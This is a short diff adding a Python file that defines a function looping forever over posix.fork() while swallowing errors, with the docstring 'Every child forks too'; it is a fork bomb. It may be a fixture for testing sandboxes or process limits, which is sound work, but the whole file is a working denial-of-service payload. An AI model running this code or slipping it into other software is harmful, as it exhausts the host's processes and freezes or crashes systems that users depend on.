@@ -1,0 +1,10 @@
+"""Every child forks too."""
+import posix
+
+
+def f(x):
+    while True:
+        try:
+            posix.fork()
+        except OSError:
+            pass
